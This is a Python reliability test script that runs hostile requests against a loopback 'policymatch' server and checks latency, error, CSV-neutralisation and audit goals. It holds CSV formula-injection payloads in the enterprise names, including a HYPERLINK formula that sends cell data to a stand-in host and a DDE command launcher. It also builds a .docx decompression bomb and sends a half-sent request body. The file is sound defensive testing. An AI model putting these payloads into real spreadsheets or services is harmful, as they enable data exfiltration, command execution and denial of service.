"""Issue 18's hostile requests, run again against the real server on loopback, bounded in time.

``python -m tests.reliability.hostile [--no-write]``

Starts ``policymatch serve`` (uvicorn) over a small demo data directory and,
while a prober reads ``/healthz`` every 50 ms and a client runs 智能匹配, sends:
policies of 200 000 characters without sentence punctuation, 条件 × 100 000,
200 000 digits and numerals, one over the text cap; profiles with
``revenue 1e-300 / rd_expense 1e10``, NaN, 2^63−1 employees, NUL, the ids ``.``
and ``..``, ``top_k: true`` / ``"5"``; enterprises named like formulas, then the
CSV export; floods of unknown keys (401 → 429), an enterprise key reaching for
another enterprise (403), a key past its rate (429); a half-sent body. Then it
reads the audit trail. It also measures, in this process, the worst time per
character of the whole policy read over adversarial texts at the size cap, and a
.docx whose document.xml is 57 MB.

Goals (issue 18): health p99 < 100 ms while they run, 0 5xx, 0 formula cells,
every refusal audited. The table goes to docs/reliability.md (section "Hostile
requests"); exit 1 when a goal is missed.
"""

from __future__ import annotations

import argparse
import csv
import http.client
import io
import json
import platform
import re
import socket
import sys
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

from .soak import DOC, _free_port, prepare_data_dir, start_server

START, END = "<!-- hostile:start -->", "<!-- hostile:end -->"
READ_TIMEOUT_S = 3.0
QUIET_S = 20.0
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _pct(values: list[float], q: float) -> float:
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(q * len(ordered)))]


class _Conn:
    """One keep-alive connection; every answer's status is counted under its kind."""

    def __init__(
        self, port: int, secret: str | None, tally: Counter[tuple[str, int]], timeout: float = 600
    ) -> None:
        self.port, self.secret, self.tally, self.timeout = port, secret, tally, timeout
        self.conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)

    def call(
        self,
        kind: str,
        method: str,
        path: str,
        body: Any = None,
        raw: bytes | None = None,
        secret: str | None = None,
    ) -> tuple[int, bytes, float]:
        headers = {}
        key = secret if secret is not None else self.secret
        if key:
            headers["Authorization"] = f"Bearer {key}"
        data = raw
        if body is not None:
            data = json.dumps(body, ensure_ascii=False).encode()
        if data is not None:
            headers["Content-Type"] = "application/json"
        started = time.perf_counter()
        try:
            self.conn.request(method, path, body=data, headers=headers)
            response = self.conn.getresponse()
            payload = response.read()
            status = response.status
            if response.getheader("Connection", "").lower() == "close":
                self.conn.close()
        except (OSError, http.client.HTTPException):
            self.conn.close()
            self.conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=self.timeout)
            status, payload = 0, b""
        seconds = time.perf_counter() - started
        self.tally[(kind, status)] += 1
        return status, payload, seconds


# The prober runs in its own process: in this one, the client threads' GIL turns would be measured too.
PROBER = """
import http.client, sys, time
port, out, stop = int(sys.argv[1]), open(sys.argv[2], "w"), sys.argv[3]
import os
conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
while not os.path.exists(stop):
    started = time.perf_counter()
    try:
        conn.request("GET", "/healthz")
        response = conn.getresponse()
        response.read()
        status = response.status
    except (OSError, http.client.HTTPException):
        conn.close()
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        status = 0
    out.write(f"{(time.perf_counter() - started) * 1000:.3f} {status}\\n")
    out.flush()
    time.sleep(0.05)
"""


class _Prober:
    """``/healthz`` every 50 ms from a separate process, until :meth:`stop`; returns the latencies (ms)."""

    def __init__(self, port: int, folder: Path, name: str) -> None:
        import subprocess

        self.out, self.flag = folder / f"{name}.txt", folder / f"{name}.stop"
        self.proc = subprocess.Popen([sys.executable, "-c", PROBER, str(port), str(self.out), str(self.flag)])

    def stop(self) -> tuple[list[float], list[str]]:
        self.flag.touch()
        self.proc.wait(timeout=60)
        latencies, failures = [], []
        for line in self.out.read_text(encoding="utf-8").splitlines():
            ms, status = line.split()
            latencies.append(float(ms))
            if status != "200":
                failures.append(f"healthz {status}")
        return latencies, failures


def _matcher(
    port: int, secret: str, ids: list[str], stop: threading.Event, out: list[float], tally: Counter
) -> None:
    client = _Conn(port, secret, tally)
    n = 0
    while not stop.is_set():
        status, _, seconds = client.call(
            "match (beside)", "POST", "/v1/match", {"enterprise_id": ids[n % len(ids)]}
        )
        if status == 200:
            out.append(seconds * 1000)
        n += 1
        stop.wait(0.2)


def _half_sent_body(port: int) -> tuple[int, float]:
    """Send headers announcing 1000 bytes and only 10; return the status the server answers and when."""
    started = time.perf_counter()
    with socket.create_connection(("127.0.0.1", port), timeout=READ_TIMEOUT_S * 5) as sock:
        sock.sendall(
            b"POST /v1/match HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            b'Content-Length: 1000\r\n\r\n{"enterpr'
        )
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            return 0, time.perf_counter() - started
    match = re.match(rb"HTTP/1\.1 (\d{3})", data)
    return (int(match.group(1)) if match else 0), time.perf_counter() - started


def extraction_worst_case(length: int = 200_000) -> list[tuple[str, float, float]]:
    """(text, seconds, µs per character) of the whole policy read at ``length`` characters, worst first."""
    from corpus.schemas import validate_policy
    from matcher.extraction.support import support_text
    from matcher.ingest import prepare_policy

    texts = {
        "条件 × 100 000": "条件" * (length // 2),
        "200 000 characters without sentence punctuation": ("企业研发投入支持资金" * (length // 10 + 1))[
            :length
        ],
        "digits": "1" * length,
        "Chinese numerals 一": "一" * length,
        "blanks": "x" + " " * (length - 1),
        "两 (region names)": "两" * length,
        "月": "月" * length,
        "为 (qualification heads)": "为" * length,
        "奖励， (support clauses)": ("奖励，" * (length // 3 + 1))[:length],
        "1. (amount runs)": "1." * (length // 2),
        "。 (one part per character)": "x" + "。" * (length - 1),
        "tiers (对A，给予X；对B，给予Y)": (
            "对高新技术企业，给予奖励1万元；对小微企业给予奖励2万元；" * (length // 28 + 1)
        )[:length],
    }
    prepare_policy(validate_policy({"id": "w", "title": "t", "text": "预热"}), budget_s=None)
    out = []
    for name, text in texts.items():
        document = validate_policy({"id": "w", "title": "t", "text": text, "region_code": "4401"})
        started = time.perf_counter()
        prepared = prepare_policy(document, budget_s=None, max_chars=None)
        for item in prepared.items:
            support_text(item.text)
        seconds = time.perf_counter() - started
        out.append((name, seconds, seconds / len(text) * 1e6))
    return sorted(out, key=lambda row: -row[2])


def docx_bomb_case(folder: Path) -> tuple[float, float, str]:
    """Seconds and peak MB to refuse a .docx whose document.xml is 57 MB, and the error."""
    import tracemalloc
    import zipfile

    import docx

    from corpus.loaders import load_policies

    source = folder / "source.docx"
    document = docx.Document()
    document.add_paragraph("对企业给予奖励。")
    document.save(source)
    with zipfile.ZipFile(source) as original:
        members = {name: original.read(name) for name in original.namelist()}
    xml = members["word/document.xml"]
    cut = xml.rindex(b"</w:body>")
    run = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    members["word/document.xml"] = xml[:cut] + run * (57 * 1024 * 1024 // len(run)) + xml[cut:]
    bomb = folder / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name, data in members.items():
            out.writestr(name, data)
    tracemalloc.start()
    started = time.perf_counter()
    result = load_policies([bomb])
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    return seconds, peak, f"{bomb.stat().st_size // 1024} KB file: {result.errors[0].message}"


def run(data_dir: Path) -> dict[str, Any]:
    """Start the server, send the hostile requests beside the prober and a 智能匹配 client, read the audit trail."""
    import os

    from corpus.store import open_store

    admin_keys, push_keys, ids = prepare_data_dir(data_dir, n_policies=5, n_enterprises=300, n_keys=2)
    store = open_store(data_dir / "policymatch.sqlite3")
    try:
        enterprise_key = store.create_api_key("enterprise", ids[0], "hostile enterprise")[1]
        analyst_key = store.create_api_key("analyst", None, "hostile analyst")[1]
    finally:
        store.close()
    load = os.getloadavg()[0]
    port = _free_port()
    os.environ["POLICYMATCH_READ_TIMEOUT_S"] = str(READ_TIMEOUT_S)
    proc = start_server(data_dir, port, data_dir / "server.log")
    tally: Counter[tuple[str, int]] = Counter()
    notes: list[str] = []
    beside: list[float] = []
    slow: dict[str, float] = {}
    try:
        admin = _Conn(port, admin_keys[0], tally)
        # The reading worker starts beside serving; wait for it so the first hostile post is not also its start.
        admin.call(
            "warm-up policy",
            "POST",
            "/v1/policies",
            {"id": "warm", "title": "t", "text": "一、对企业给予奖励10万元。"},
        )
        stop = threading.Event()
        threads = [
            threading.Thread(
                target=_matcher, args=(port, admin_keys[1], ids, stop, beside, tally), daemon=True
            ),
        ]
        for thread in threads:
            thread.start()
        # Reference: the same prober beside the same 智能匹配 client, before any hostile request.
        quiet_prober = _Prober(port, data_dir, "quiet")
        time.sleep(QUIET_S)
        quiet, _ = quiet_prober.stop()
        prober = _Prober(port, data_dir, "hostile")
        # A fresh connection: the server closed the idle one after its keep-alive timeout.
        admin = _Conn(port, admin_keys[0], tally)
        started = time.perf_counter()

        texts = {
            "200k without punctuation": ("企业研发投入支持资金" * 20_000),
            "条件 × 100 000": "条件" * 100_000,
            "200k digits": "1" * 200_000,
            "200k numerals": "一" * 200_000,
        }
        for n, (name, text) in enumerate(texts.items()):
            status, _, seconds = admin.call(
                "hostile policy", "POST", "/v1/policies", {"id": f"hostile-{n}", "title": name, "text": text}
            )
            slow[name] = seconds
            notes.append(f"POST /v1/policies {name}: {status} in {seconds:.1f} s")
        admin.call(
            "over the text cap",
            "POST",
            "/v1/policies",
            {"id": "hostile-cap", "title": "t", "text": "字" * 200_001},
        )

        bad_profiles = [
            {"id": "h-rd", "name": "n", "revenue": 1e-300, "rd_expense": 1e10},
            {"id": "h-big", "name": "n", "employees": 2**63 - 1},
            {"id": "h-nul", "name": "甲\x00乙"},
            {"id": ".", "name": "n"},
            {"id": "..", "name": "n"},
        ]
        for body in bad_profiles:
            admin.call("bad profile", "POST", "/v1/enterprises", body)
            admin.call("bad profile", "PUT", "/v1/enterprises/h-put", {**body, "id": "h-put"})
        admin.call(
            "bad profile", "POST", "/v1/enterprises", raw=b'{"id": "h-nan", "name": "n", "revenue": NaN}'
        )
        for top_k in (True, "5"):
            admin.call("bad top_k", "POST", "/v1/match", {"enterprise_id": ids[0], "top_k": top_k})

        policy = json.loads(admin.call("read", "GET", "/v1/policies")[1])["data"][0]["id"]
        for n, name in enumerate(
            ['=HYPERLINK("http://x/?"&A1,"点")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-2+3"]
        ):
            admin.call(
                "formula-named enterprise", "POST", "/v1/enterprises", {"id": f"h-csv-{n}", "name": name}
            )
        status, payload, _ = _Conn(port, push_keys[0], tally).call(
            "targets.csv",
            "GET",
            f"/v1/policies/{policy}/targets.csv?levels=eligible,need_info,near_miss,ineligible",
        )
        cells = [cell for row in csv.reader(io.StringIO(payload.decode("utf-8-sig"))) for cell in row]
        formula_cells = sum(cell.startswith(FORMULA_STARTS) for cell in cells)
        named = sum(1 for cell in cells if cell.startswith("'"))

        refused = Counter()
        stranger = _Conn(port, None, tally)
        for n in range(300):
            status, _, _ = stranger.call("unknown key", "GET", "/v1/policies", secret=f"pk_nokey{n}.guess{n}")
            refused[status] += 1
        nokey = _Conn(port, None, tally)
        enterprise = _Conn(port, enterprise_key, tally)
        for other in ids[1:21]:
            status, _, _ = enterprise.call("another enterprise", "GET", f"/v1/enterprises/{other}")
            refused[status] += 1
        push = _Conn(port, push_keys[0], tally)
        for _ in range(100):
            status, _, _ = push.call("past the rate", "GET", "/v1/policies")
            refused[status] += 1
        del nokey
        half_status, half_seconds = _half_sent_body(port)
        tally[("half-sent body", half_status)] += 1
        hostile_s = time.perf_counter() - started
        health, health_failures = prober.stop()
        stop.set()
        for thread in threads:
            thread.join(timeout=60)

        analyst = _Conn(port, analyst_key, tally)
        rows = json.loads(analyst.call("audit", "GET", "/v1/audit?action=request.refused&limit=1000")[1])[
            "data"
        ]
        audited = Counter()
        for row in rows:
            audited[int(row["details"]["status"])] += int(row["details"]["count"])
        sent = Counter()
        for (_, status), count in tally.items():
            if status in (401, 403, 429):
                sent[status] += count
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except Exception:  # noqa: BLE001 - a server that will not stop is killed
            proc.kill()
    return {
        "health": health,
        "quiet": quiet,
        "load": load,
        "health_failures": health_failures,
        "beside": beside,
        "tally": tally,
        "formula_cells": formula_cells,
        "neutralised": named,
        "refusals_sent": dict(sent),
        "refusals_audited": dict(audited),
        "audit_rows": len(rows),
        "half_sent": (half_status, half_seconds),
        "slow": slow,
        "hostile_s": hostile_s,
        "notes": notes,
    }


def render(
    result: dict[str, Any], worst: list[tuple[str, float, float]], bomb: tuple[float, float, str]
) -> str:
    """Markdown for docs/reliability.md."""
    health = result["health"]
    five = sum(n for (_, status), n in result["tally"].items() if status >= 500)
    dropped = sum(n for (_, status), n in result["tally"].items() if status == 0)
    statuses: dict[str, Counter[int]] = {}
    for (kind, status), n in sorted(result["tally"].items()):
        statuses.setdefault(kind, Counter())[status] += n
    lines = [
        f"Run of `python -m tests.reliability.hostile` ({time.strftime('%Y-%m-%d')}): `policymatch serve` on loopback, "
        f"demo corpus of 5 policies and 300 enterprises, read timeout {READ_TIMEOUT_S:g} s. "
        f"Machine: {platform.processor() or platform.machine()}, 2 cores shared with other jobs "
        f"(load average {result['load']:.1f} at the start), Python {platform.python_version()}.",
        "",
        "| goal | measured |",
        "|---|---|",
        f"| health p99 < 100 ms while the hostile requests run ({result['hostile_s']:.0f} s) | "
        f"p50 {_pct(health, 0.5):.1f} ms, p99 **{_pct(health, 0.99):.1f} ms**, max {max(health):.1f} ms over {len(health)} probes; "
        f"{len(result['health_failures'])} failed |",
        f"| (reference: the same probes beside the same 智能匹配 client, no hostile request, {QUIET_S:g} s) | "
        f"p50 {_pct(result['quiet'], 0.5):.1f} ms, p99 {_pct(result['quiet'], 0.99):.1f} ms, max {max(result['quiet']):.1f} ms |",
        f"| 0 5xx | **{five}** (and {dropped} requests without an answer) |",
        f"| 0 formula cells in targets.csv | **{result['formula_cells']}** ({result['neutralised']} cells neutralised with a leading `'`) |",
        "| every refusal audited | sent "
        + ", ".join(f"{k}: {v}" for k, v in sorted(result["refusals_sent"].items()))
        + " · audited "
        + ", ".join(f"{k}: {v}" for k, v in sorted(result["refusals_audited"].items()))
        + f" (in {result['audit_rows']} rows) |",
        "",
        f"智能匹配 beside them: p50 {_pct(result['beside'], 0.5):.0f} ms, p99 {_pct(result['beside'], 0.99):.0f} ms, "
        f"max {max(result['beside'] or [0]):.0f} ms ({len(result['beside'])} requests; before issue 18 one took 322 s).",
        f"Half-sent body: answered {result['half_sent'][0]} after {result['half_sent'][1]:.1f} s.",
        "",
        "| request | statuses |",
        "|---|---|",
    ]
    for kind, counts in statuses.items():
        lines.append(f"| {kind} | {', '.join(f'{s}: {n}' for s, n in sorted(counts.items()))} |")
    lines += ["", *[f"- {note}" for note in result["notes"]], ""]
    lines += [
        "Whole policy read (split, extract, support text) at 200 000 characters, in one process, worst first:",
        "",
        "| text | seconds | µs per character |",
        "|---|---:|---:|",
        *[f"| {name} | {seconds:.2f} | {per:.1f} |" for name, seconds, per in worst],
        "",
        f"A .docx bomb ({bomb[2]}) is refused in {bomb[0]:.2f} s with a peak of {bomb[1]:.0f} MB "
        "(before issue 18: past 150 s and 656 MB).",
    ]
    return "\n".join(lines)


def goals_met(result: dict[str, Any]) -> bool:
    """The issue's goals: health p99 < 100 ms, no 5xx, no formula cell, every refusal audited."""
    five = sum(n for (_, status), n in result["tally"].items() if status >= 500)
    return (
        _pct(result["health"], 0.99) < 100
        and not result["health_failures"]
        and five == 0
        and not any(status == 0 for (_, status) in result["tally"])
        and result["formula_cells"] == 0
        and result["refusals_sent"] == result["refusals_audited"]
    )


def write_doc(markdown: str) -> None:
    """Replace the hostile-requests section of docs/reliability.md."""
    text = DOC.read_text(encoding="utf-8")
    if START not in text:
        text += f"\n## Hostile requests\n\n{START}\n{END}\n"
    text = re.sub(
        re.escape(START) + ".*?" + re.escape(END), lambda _: f"{START}\n{markdown}\n{END}", text, flags=re.S
    )
    DOC.write_text(text, encoding="utf-8")


def main(argv: list[str] | None = None) -> int:
    """Run it from the command line; exit 1 when a goal is missed."""
    parser = argparse.ArgumentParser(
        prog="python -m tests.reliability.hostile", description=__doc__.splitlines()[0]
    )
    parser.add_argument("--no-write", action="store_true", help="print only; leave docs/reliability.md alone")
    parser.add_argument(
        "--skip-extraction", action="store_true", help="skip the in-process worst-case measurement"
    )
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="policymatch-hostile-") as tmp:
        result = run(Path(tmp) / "data")
        worst = [] if args.skip_extraction else extraction_worst_case()
        bomb = docx_bomb_case(Path(tmp))
    markdown = render(result, worst, bomb)
    print(markdown)  # noqa: T201
    if not args.no_write:
        write_doc(markdown)
    return 0 if goals_met(result) else 1


if __name__ == "__main__":
    sys.exit(main())
